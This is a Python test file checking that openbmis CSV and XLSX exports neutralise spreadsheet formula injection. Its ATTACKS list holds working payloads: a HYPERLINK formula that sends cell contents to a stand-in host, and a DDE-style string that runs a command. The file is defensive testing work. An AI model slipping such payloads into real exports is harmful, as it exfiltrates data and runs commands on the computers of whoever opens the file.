"""Formula injection: no export cell is read back as a formula (core/spreadsheet.py, every CSV and XLSX)."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from openbmis.core.spreadsheet import csv_cell, is_formula_like
from openbmis.statistics.exports import to_csv, to_xlsx

ATTACKS = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "\uff1d1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_like_text_is_neutralised_in_csv(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["KEN", "ODHIAMBO", "", 12, -3, 0.5, None, "a=b"])
def test_ordinary_values_pass_unchanged(value):
    assert csv_cell(value) == value


@given(st.text())
def test_no_csv_cell_starts_a_formula(text):
    assert not is_formula_like(csv_cell(text))


def test_statistics_exports_carry_no_formula():
    rows = [[text, 7] for text in ATTACKS]
    parsed = list(csv.reader(io.StringIO(to_csv("t", ["=header", "n"], rows, ["=note"]).decode("utf-8-sig"))))
    cells = [cell for row in parsed for cell in row]
    assert not any(is_formula_like(cell) for cell in cells)
    assert "'" + ATTACKS[0] in cells

    book = load_workbook(io.BytesIO(to_xlsx("t", ["=header", "n"], rows, ["=note"])))
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    assert book.active["A2"].value == ATTACKS[0]  # kept as the text it was, in a string cell
    assert book.active["A2"].data_type == "s"
